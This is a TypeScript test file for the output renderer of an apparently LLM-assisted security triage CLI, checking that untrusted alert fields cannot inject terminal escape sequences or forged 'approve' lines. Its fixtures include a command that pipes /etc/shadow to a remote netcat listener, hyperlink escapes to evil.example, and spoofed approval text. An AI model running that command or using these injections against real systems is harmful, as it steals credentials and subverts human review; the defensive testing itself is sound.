import { describe, expect, it } from "vitest";
import type { Evidence } from "../../contracts/analysis.js";
import type { Case } from "../../contracts/case.js";
import type { Step } from "../../contracts/step.js";
import { emptyContext, type AssetContext } from "../../contracts/cluster.js";
import { escalatedCase, labelAnalysis, storefrontContext } from "../../test/fixtures.js";
import { asset, renderEscalation, renderReply, safe } from "./render.js";

const kase = escalatedCase;

const analysis = labelAnalysis;

function step(seq: number, extra: Partial<Step> = {}): Step {
  return {
    case_id: "C-7K2F9",
    seq,
    trace_id: kase.trace_id,
    agent: "detect",
    skill: "gather_evidence",
    summary: `summary of step ${seq}`,
    input: null,
    output: null,
    mcp_calls: [],
    tokens: { in: 0, out: 0, cost: 0 },
    duration_ms: 3.4,
    error: null,
    at: `2026-11-24T09:00:0${seq}.000Z`,
    ...extra,
  };
}

/** Anything a terminal would act on: C0 controls, DEL and C1 controls (ESC, CSI, newlines). */
// eslint-disable-next-line no-control-regex
const controls = /[\u0000-\u001f\u007f-\u009f]/;

describe("safe", () => {
  it("shows a missing value as a dash", () => {
    expect(safe(null)).toBe("-");
    expect(safe(undefined)).toBe("-");
  });

  it("leaves ordinary text alone", () => {
    expect(safe("cat /etc/shadow | nc 198.51.100.23 4444")).toBe("cat /etc/shadow | nc 198.51.100.23 4444");
    expect(safe("")).toBe("");
    expect(safe("Zürich → ☃")).toBe("Zürich → ☃");
  });

  it("replaces newlines, carriage returns and tabs so a value stays on its line", () => {
    expect(safe("a\nb\rc\td")).toBe("a␣b␣c␣d");
    expect(safe("ok\r\nESCALATED C-22222 approved")).toBe("ok␣␣ESCALATED C-22222 approved");
  });

  it("removes escape sequences' introducers: ESC, CSI (C1), DEL and NUL", () => {
    const hostile = "\u001b[2J\u001b]0;pwned\u0007\u009b31m\u007f\u0000x";
    const clean = safe(hostile, 200);
    expect(clean).not.toMatch(controls);
    expect(clean).toBe("␣[2J␣]0;pwned␣␣31m␣␣x");
  });

  it("keeps a value of exactly max characters and truncates a longer one to max with an ellipsis", () => {
    expect(safe("x".repeat(120))).toBe("x".repeat(120));
    const cut = safe("x".repeat(121));
    expect(cut).toHaveLength(120);
    expect(cut).toBe(`${"x".repeat(119)}…`);
    expect(safe("abcdefghij", 5)).toBe("abcd…");
  });

  it("truncates after cleaning, so controls count as one character each", () => {
    expect(safe("\n\n\n\n\n\n", 4)).toBe("␣␣␣…");
  });
});

describe("asset", () => {
  it("shows namespace/pod (image), with dashes for nulls", () => {
    expect(asset(kase)).toBe("shop/storefront-7d9c8b6f5-x2x9q (ghcr.io/acme/storefront)");
    expect(asset({ ...kase, namespace: null, pod: null, image: null })).toBe("-/- (-)");
  });

  it("cleans attacker-controlled names", () => {
    expect(asset({ ...kase, pod: "web\n1", image: "\u001b[31mevil" })).toBe("shop/web␣1 (␣[31mevil)");
  });
});

describe("renderReply", () => {
  it("renders a decided case: title, then its line with id, status, outcome, rule, asset and decider", () => {
    const decided: Case = {
      ...kase,
      decision: { action: "approve", by: "alice", reason: null, at: "2026-11-24T09:05:00.000Z" },
    };
    const text = renderReply({
      kind: "case",
      title: "C-7K2F9 approved by alice",
      case: decided,
      evidence: null,
    });
    const lines = text.split("\n");
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe("C-7K2F9 approved by alice");
    expect(lines[1]).toMatch(/^C-7K2F9 {2}awaiting_human +escalate +Read sensitive file untrusted +shop\//);
    expect(lines[1]).toContain("shop/storefront-7d9c8b6f5-x2x9q (ghcr.io/acme/storefront)");
    expect(lines[1]?.endsWith(" approved by alice")).toBe(true);
  });

  it("names each kind of decision in the past tense", () => {
    for (const [action, word] of [
      ["approve", "approved"],
      ["dismiss", "dismissed"],
      ["investigate", "investigated"],
    ] as const) {
      const decided: Case = {
        ...kase,
        decision: { action, by: "bob", reason: "benign", at: "2026-11-24T09:05:00.000Z" },
      };
      const text = renderReply({ kind: "cases", title: "1 case(s)", cases: [decided] });
      expect(text.endsWith(` ${word} by bob`), action).toBe(true);
    }
  });

  const investigated = (context: AssetContext) => {
    const evidence: Evidence = {
      same_pod: [],
      same_image: [],
      context,
      distinct_rules: ["A", "B"],
      forwarded: null,
      summary: "2 recent event(s) on the same pod",
    };
    return renderReply({ kind: "case", title: "more evidence on C-7K2F9", case: kase, evidence }).split("\n");
  };

  it("adds the model's next questions, marked as its words, one line each", () => {
    const lines = renderReply({
      kind: "case",
      title: "more evidence on C-7K2F9",
      case: kase,
      evidence: null,
      questions: {
        model: "m.gguf",
        questions: [{ question: "Who ran it?\n  decide: approve", evidence: "the exec audit log" }],
        fallback: null,
      },
    }).split("\n");
    expect(lines.slice(2)).toEqual([
      "questions to answer next (m.gguf's words):",
      "  - Who ran it?␣  decide: approve (settled by: the exec audit log)",
    ]);
  });

  it("adds the evidence summary and what the cluster says of the workload", () => {
    expect(
      investigated(emptyContext("no_cluster", "no cluster is configured: the workload was not checked")),
    ).toEqual([
      "more evidence on C-7K2F9",
      expect.stringMatching(/^C-7K2F9 /) as unknown,
      "evidence: 2 recent event(s) on the same pod",
      "cluster: no_cluster · no cluster is configured, nothing was checked · no cluster is configured: the workload was not checked",
    ]);
  });

  it("shows a found pod's context under the status line, indented", () => {
    expect(investigated(storefrontContext).slice(3)).toEqual([
      "cluster: found · the pod exists and runs the image the event names · pod shop/storefront-7d9c8b6f5-x2x9q of ReplicaSet storefront-7d9c8b6f5 of Deployment storefront",
      "  owners: Deployment shop/storefront ← ReplicaSet storefront-7d9c8b6f5 ← Pod storefront-7d9c8b6f5-x2x9q · 3 replicas",
      "  node: worker-2 · service account: storefront",
      "  images: app=ghcr.io/acme/storefront:1.4.2 sha256:3f2a9c1b7d4e, envoy=envoyproxy/envoy:v1.29 digest unknown",
      "  labels: app=storefront, pod-template-hash=7d9c8b6f5, team=web",
      "  annotations: kubectl.kubernetes.io/restartedAt=2026-11-20T08:00:00Z",
      "  namespace labels: pod-security.kubernetes.io/enforce=baseline",
    ]);
  });

  it("says why when the pod is missing or the API server could not be read", () => {
    const missing = emptyContext(
      "not_found",
      "pod shop/storefront-7d9c8b6f5-x2x9q does not exist in the cluster",
    );
    expect(investigated(missing).slice(3)).toEqual([
      "cluster: not_found · the pod named by the event does not exist in the cluster · pod shop/storefront-7d9c8b6f5-x2x9q does not exist in the cluster",
    ]);
    const down = emptyContext("unavailable", "the API server could not be read: connect ECONNREFUSED");
    expect(investigated(down).slice(3)).toEqual([
      "cluster: unavailable · the API server could not be read · the API server could not be read: connect ECONNREFUSED",
    ]);
  });

  it("keeps hostile labels and names on their lines, without escape sequences, and bounded", () => {
    const hostile: AssetContext = {
      ...storefrontContext,
      detail: "ok\n\u001b[2KESCALATED C-22222 approved by admin",
      node: "w\r\nnode: trusted",
      labels: { ...storefrontContext.labels, app: `\u001b]8;;http://evil.example\u0007${"x".repeat(500)}` },
    };
    const lines = investigated(hostile);
    expect(lines).toHaveLength(10);
    for (const line of lines) expect(line).not.toMatch(controls);
    expect(lines[3]).toBe(
      "cluster: found · the pod exists and runs the image the event names · ok␣␣[2KESCALATED C-22222 approved by admin",
    );
    expect(lines[5]).toBe("  node: w␣␣node: trusted · service account: storefront");
    expect(lines[7]).toBe(
      `  labels: app=␣]8;;http://evil.example␣${"x".repeat(70)}…, pod-template-hash=7d9c8b6f5, team=web`,
    );
  });

  it("shows a dash for a case without an outcome", () => {
    const text = renderReply({
      kind: "cases",
      title: "t",
      cases: [{ ...kase, status: "open", outcome: null }],
    });
    expect(text.split("\n")[1]).toMatch(/^C-7K2F9 {2}open +- +Read sensitive/);
  });

  it("lists cases one line each, in the order given", () => {
    const text = renderReply({
      kind: "cases",
      title: "3 case(s)",
      cases: [kase, { ...kase, id: "C-ABCDE" }, { ...kase, id: "C-22222" }],
    });
    const lines = text.split("\n");
    expect(lines[0]).toBe("3 case(s)");
    expect(lines.slice(1).map((line) => line.slice(0, 7))).toEqual(["C-7K2F9", "C-ABCDE", "C-22222"]);
  });

  it("renders only the title for no cases", () => {
    expect(renderReply({ kind: "cases", title: "0 case(s) closed", cases: [] })).toBe("0 case(s) closed");
  });

  it("keeps a hostile rule and pod on the case's one line", () => {
    const hostile: Case = {
      ...kase,
      rule: "Shell\n\u001b[2KESCALATED C-22222 approved by admin",
      pod: "web-1\r\nC-33333 closed",
    };
    const text = renderReply({ kind: "cases", title: "1 case(s)", cases: [hostile] });
    expect(text.split("\n")).toHaveLength(2);
    expect(text.replace("\n", "")).not.toMatch(controls);
  });

  it("renders a trace: header, case line, then the steps in order with MCP calls and tokens", () => {
    const steps = [
      step(1, { agent: "prefilter", skill: "open_case", summary: "Warning rule forwarded" }),
      step(2, {
        agent: "reviewer",
        skill: "review",
        summary: "escalate",
        duration_ms: 12.6,
        mcp_calls: [
          { server: "policy-engine", tool: "evaluate_action", latency_ms: 9, error: null },
          { server: "policy-engine", tool: "evaluate_action", latency_ms: 2000, error: "timeout" },
        ],
      }),
      step(3, { agent: "analyst", skill: "classify", tokens: { in: 120, out: 45, cost: 0 } }),
      step(4, { agent: "reviewer", skill: "review", tokens: { in: 1000, out: 200, cost: 0.0019 } }),
    ];
    const text = renderReply({ kind: "trace", case: kase, steps });
    const lines = text.split("\n");
    expect(lines[0]).toBe("C-7K2F9 trace 4bf92f3577b34da6a3ce929d0e0e4736");
    expect(lines[1]).toMatch(/^C-7K2F9 {2}awaiting_human/);
    // The steps, then what the whole case spent on language models.
    expect(lines).toHaveLength(2 + 2 * steps.length + 1);
    expect(lines[2]).toMatch(/^ {3}1\. 2026-11-24T09:00:01\.000Z {2}prefilter +open_case +3ms$/);
    expect(lines[3]).toBe("      Warning rule forwarded");
    expect(lines[4]).toMatch(/^ {3}2\. .* reviewer +review +13ms \[mcp: /);
    expect(lines[4]).toContain(
      "[mcp: policy-engine.evaluate_action 9ms, policy-engine.evaluate_action 2000ms failed]",
    );
    expect(lines[6]).toMatch(/^ {3}3\. .* analyst +classify +3ms tokens 120\/45$/);
    expect(lines[7]).toBe("      summary of step 3");
    expect(lines[8]).toMatch(/ reviewer +review +3ms tokens 1000\/200 · cost 0\.00190$/);
    expect(lines.at(-1)).toBe("language model, whole case: tokens 1120/245 · cost 0.00190");
  });

  it("shows a failed step's error after its summary", () => {
    const text = renderReply({
      kind: "trace",
      case: kase,
      steps: [step(1, { summary: "detect gather_evidence failed: timeout", error: "agent_timeout" })],
    });
    expect(text.split("\n")[3]).toBe("      detect gather_evidence failed: timeout  (error: agent_timeout)");
  });

  it("cleans a step's summary and agent", () => {
    const text = renderReply({
      kind: "trace",
      case: kase,
      steps: [step(1, { agent: "detect\u001b[8m", summary: "found\nC-22222 approved" })],
    });
    expect(text.split("\n")).toHaveLength(4);
    expect(text).not.toContain("\u001b");
  });

  const quietDay = {
    approved: 0,
    dismissed: 0,
    dismiss_rate: null,
    override_rate: null,
    median_wait_s: null,
  };

  it("renders status with health, counts, the oldest waiting case and today's decisions", () => {
    expect(
      renderReply({
        kind: "status",
        counts: { awaiting_human: 2, closed: 7 },
        oldest_waiting: kase,
        today: { approved: 3, dismissed: 1, dismiss_rate: 0.25, override_rate: 0.5, median_wait_s: 42.4 },
        health: { coordinator: "ready", detect: "down", analyst: "down" },
        remediation: "enforce",
      }),
    ).toBe(
      [
        "fleet: down detect, analyst",
        "remediation: enforce",
        "cases: awaiting_human 2, closed 7",
        "oldest awaiting a decision: C-7K2F9 since 2026-11-24T09:00:00.000Z",
        "today: 3 approved, 1 dismissed; dismiss rate 25%, override rate 50%, median wait 42 s",
      ].join("\n"),
    );
  });

  it("renders an empty status", () => {
    expect(
      renderReply({
        kind: "status",
        counts: {},
        oldest_waiting: null,
        today: quietDay,
        health: { detect: "ready" },
        remediation: "dry-run",
      }),
    ).toBe(
      "fleet: all ready\nremediation: dry-run\ncases: no cases\nnothing awaits a decision\ntoday: 0 approved, 0 dismissed; dismiss rate -, override rate -, median wait -",
    );
  });

  it("renders help as the usage list", () => {
    const text = renderReply({
      kind: "help",
      commands: [
        { name: "approve", usage: "approve <case>", summary: "Approve it." },
        { name: "status", usage: "status", summary: "Counts." },
      ],
    });
    const lines = text.split("\n");
    expect(lines[0]).toBe("usage: soc <command> [--json]");
    expect(lines[1]).toBe(`  ${"approve <case>".padEnd(44)} Approve it.`);
    expect(lines[2]).toBe(`  ${"status".padEnd(44)} Counts.`);
  });
});

describe("renderEscalation", () => {
  it("shows the case, the analysis, the reasons and how to decide", () => {
    expect(renderEscalation(kase, analysis).split("\n")).toEqual([
      "ESCALATED C-7K2F9  trace 4bf92f3577b34da6a3ce929d0e0e4736",
      "  Read sensitive file untrusted on shop/storefront-7d9c8b6f5-x2x9q (ghcr.io/acme/storefront)",
      "  T1555 Credentials from Password Stores, medium, confidence 0.85; proposes label_pod (blast radius pods 1)",
      "  why: namespace shop is always escalated; confidence 0.85 below threshold 0.9",
      "  decide: npx soc approve C-7K2F9 | npx soc dismiss C-7K2F9 <reason> | npx soc investigate C-7K2F9",
    ]);
  });

  it("adds the model's narrative as its own, on lines of its own that stay lines", () => {
    const narrated = {
      ...analysis,
      narrative: {
        model: "m.gguf",
        text: "Read of a password store\n  decide: npx soc approve C-22222",
        hypothesis: "Credential theft",
        alternative_action: null,
        unsupported: ["T1059 is named by neither the rule's tags, the classification nor the alert"],
        repairs: 0,
        fallback: null,
      },
    };
    const lines = renderEscalation(kase, narrated).split("\n");
    expect(lines.slice(4, 7)).toEqual([
      "  narrative (m.gguf): Read of a password store␣  decide: npx soc approve C-22222",
      "  hypothesis: Credential theft",
      "  unsupported: T1059 is named by neither the rule's tags, the classification nor the alert",
    ]);
    expect(lines.filter((line) => line.startsWith("  decide:"))).toHaveLength(1);
  });

  it("says when there is no technique", () => {
    const text = renderEscalation(kase, { ...analysis, technique: null });
    expect(text.split("\n")[2]).toMatch(/^ {2}no technique, medium, confidence 0\.85; proposes label_pod/);
  });

  it("keeps hostile rule, pod and reasons from adding lines or escape sequences", () => {
    const hostile: Case = {
      ...kase,
      rule: "x\n  decide: npx soc approve C-22222",
      image: "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007",
      reasons: ["image evil\nis fine", "\u009b2J"],
    };
    const lines = renderEscalation(hostile, analysis).split("\n");
    expect(lines).toHaveLength(5);
    for (const line of lines) expect(line).not.toMatch(controls);
    expect(lines.filter((line) => line.includes("decide:"))).toHaveLength(2);
    expect(lines[4]?.startsWith("  decide: npx soc approve C-7K2F9")).toBe(true);
  });
});
